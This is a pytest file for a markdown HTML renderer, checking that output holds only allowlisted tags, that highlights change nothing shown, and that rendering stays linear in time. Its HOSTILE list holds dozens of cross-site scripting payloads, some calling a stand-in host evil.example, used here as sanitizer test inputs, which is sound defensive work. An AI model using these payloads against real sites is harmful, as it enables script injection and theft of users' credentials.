"""HTML of hostile markdown is inert, and a highlight changes nothing that is shown."""

import re
import time
from functools import cache
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from documents.markdown.html_renderer import MAX_CHARS, TRUNCATED, render_html

ALLOWED = set(
    "p h3 h4 h5 h6 ul ol li blockquote pre code em strong table thead tbody tr th td hr br mark".split()  # noqa: SIM905
)
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<form action=//evil.example><input name=password></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div onclick=alert(1)>x</div>",
    "<object data=x></object><embed src=x>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1) 'title')",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x]\n\n[x]: javascript:alert(1)",
    "![x](https://evil.example/pixel.png)",
    "![x][y]\n\n[y]: https://evil.example/pixel.png",
    "<javascript:alert(1)>",
    "<https://evil.example/>",
    "https://evil.example/ www.evil.example",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "```<script>alert(1)</script>\nx\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> | x |\n|:-:|--:|\n| <img src=x onerror=alert(1)> | `<b>` |",
    "# <script>alert(1)</script>\n\n> <img src=x onerror=alert(1)>\n\n- <svg onload=alert(1)>",
    "1. x\n999999999. y\n\n**<b onmouseover=alert(1)>x</b>**",
    "\ufdd0<script>\ufdd1alert(1)</script>",
    "<mark onclick=alert(1)>x</mark>",
    "\x00<script\x00>alert(1)</script\x0b>",
]


class Seen(HTMLParser):
    """What a browser would find: tags, attributes, text; the depth of the marks."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str, str | None]] = set()
        self.text, self.marked = "", ""
        self.inside = 0
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(tag, name, text) for name, text in attrs}
        self.inside += tag == "mark"

    def handle_endtag(self, tag: str) -> None:
        self.inside -= tag == "mark"

    def handle_data(self, data: str) -> None:
        self.text += data
        self.marked += data if self.inside else ""

    def handle_comment(self, data: str) -> None:
        self.tags.add("!--")


def parse_safe_html(html: str) -> Seen:
    seen = Seen(html)
    assert seen.tags <= ALLOWED, seen.tags - ALLOWED
    for tag, name, text in seen.attributes:
        if name == "start":
            assert tag == "ol"
            assert (text or "").isdigit()
        else:
            assert (name, text) in {("class", side) for side in ("left", "center", "right")}, (tag, name, text)
    return seen


@pytest.mark.parametrize("markdown", HOSTILE)
def test_hostile_text_becomes_inert_html(markdown: str) -> None:
    for highlight in (None, (0, len(markdown)), (3, 9)):
        parse_safe_html(render_html(markdown, highlight=highlight))


def test_markup_in_the_text_is_escaped() -> None:
    assert "<script>alert(1)</script>" in parse_safe_html(render_html("see <script>alert(1)</script>")).text
    assert "[x](javascript:alert(1))" in parse_safe_html(render_html("[x](javascript:alert(1))")).text


def test_tables_lists_and_headings_are_rendered() -> None:
    html = render_html("# Plan\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n4. four\n5. five")

    assert "<h3>Plan</h3>" in html
    assert '<td class="right">2</td>' in html
    assert '<ol start="4">' in html


TEXT = """# Plan *costs*

The **deductible is** $500. It_s `code here` &amp; more.

| Service | You pay |
|:--|--:|
| **Primary** care | $20 |
| Specialist | 40% |

4. fourth point
5. fifth point

> - quoted item

```
fenced words
```
"""


@pytest.mark.parametrize(
    ("first", "last", "marked"),
    [
        ("deductible", "$500", "deductible is $500."),
        ("costs", "The", "costsThe"),
        ("code", "more", "code here & more."),
        ("Primary", "40", "Primary care$20Specialist40%"),
        ("4. fourth", "fifth", "fourth pointfifth"),
        ("quoted", "fenced", "quoted itemfenced"),
        ("$500", "$500", "$500."),
    ],
)
def test_a_passage_is_marked_over_bold_tables_lists_and_code(first: str, last: str, marked: str) -> None:
    html = render_html(TEXT, highlight=(TEXT.index(first), TEXT.index(last) + len(last)))

    assert "".join(re.split(r"\n+", parse_safe_html(html).marked)) == marked
    assert html.replace("<mark>", "").replace("</mark>", "") == render_html(TEXT)


def test_a_mark_never_holds_another_tag() -> None:
    html = render_html(TEXT, highlight=(0, len(TEXT)))

    assert html.count("<mark>") > 10
    assert all("<" not in inside for inside in re.findall("<mark>(.*?)</mark>", html, re.DOTALL))


@pytest.mark.parametrize("highlight", [(0, 0), (5, 2), (-10, 5), (10**9, 10**9 + 5), (0, 10**9)])
def test_highlights_beyond_the_text_are_ignored(highlight: tuple[int, int]) -> None:
    assert parse_safe_html(render_html(TEXT, highlight=highlight)).text == parse_safe_html(render_html(TEXT)).text


def test_truncated_text_is_marked() -> None:
    html = render_html("word " * MAX_CHARS)

    assert html.endswith(TRUNCATED)
    assert not render_html("word").endswith(TRUNCATED)


def test_text_that_is_nested_too_deep_is_still_shown() -> None:
    assert "a hidden clause" in parse_safe_html(render_html("> " * 150 + "a hidden clause")).text


UNITS = [
    "*", "[", "![", "`", "_a ", "> ", "- ", "**a*", "[](", "<", "&", "|", "~~~\n", "a\n", "1 ", "| a " * 9 + "\n",
    "a|a\n-|-\n", "- a\n", "1. a\n\n", "# a\n",
]  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize("unit", UNITS)
def test_time_grows_with_the_text_and_no_faster(unit: str) -> None:
    text = unit * (MAX_CHARS // len(unit))

    part = text[: MAX_CHARS // 4]

    # Four times the text takes four times as long, and the collector's share; a square would be sixteen times.
    assert min(spent(text), spent(text)) < 12 * min(spent(part), spent(part)) + 0.1


@pytest.mark.slow
@pytest.mark.parametrize("row", ["|", "a"])
@pytest.mark.parametrize("columns", [3, 50, 1000])
def test_a_table_with_more_cells_than_characters_takes_no_longer(columns: int, row: str) -> None:
    head = "|a" * columns + "|\n" + "|-" * columns + "|\n"
    text = head + f"{row}\n" * ((MAX_CHARS - len(head)) // 2)

    # Whatever else the machine does makes it more, never less.
    assert min(spent(text), spent(text)) < 2 * dearest()
    assert row in parse_safe_html(render_html(text)).text


def test_a_full_page_of_a_wide_table_is_still_a_table() -> None:
    html = render_html("| a " * 12 + "|\n" + "|-" * 12 + "|\n" + ("| 1234567 " * 12 + "|\n") * 60)

    assert html.count("<td>") == 12 * 60


@cache
def dearest() -> float:
    """Return what the dearest of all that is no table takes."""
    text = "- a\n" * (MAX_CHARS // 4)
    return min(spent(text), spent(text))


def spent(text: str) -> float:
    before = time.process_time()
    render_html(text, highlight=(0, len(text)))
    return time.process_time() - before


LETTERS = st.text(alphabet=st.sampled_from("ab1 \n\t*_`[]()<>|-:#>!&;.\\$~+=/\"'é\ufdd0\ufdd1\x00"), max_size=120)


@settings(max_examples=150)
@given(markdown=st.one_of(LETTERS, st.text(max_size=80)), start=st.integers(-3, 120), end=st.integers(-3, 130))
def test_only_allowed_tags_are_rendered(markdown: str, start: int, end: int) -> None:
    plain, marked = render_html(markdown), render_html(markdown, highlight=(start, end))

    parse_safe_html(plain)
    parse_safe_html(marked)
    assert marked.replace("<mark>", "").replace("</mark>", "") == plain


def test_a_highlight_behind_many_brackets_takes_linear_time() -> None:
    """It took 3 s for a page of brackets, in a web process that serves others meanwhile."""
    markdown = "(" * 24_000 + " covered"
    began = time.process_time()

    html = render_html(markdown, highlight=(24_001, 24_008))

    assert html.endswith("<mark>covered</mark></p>\n")
    assert time.process_time() - began < 1
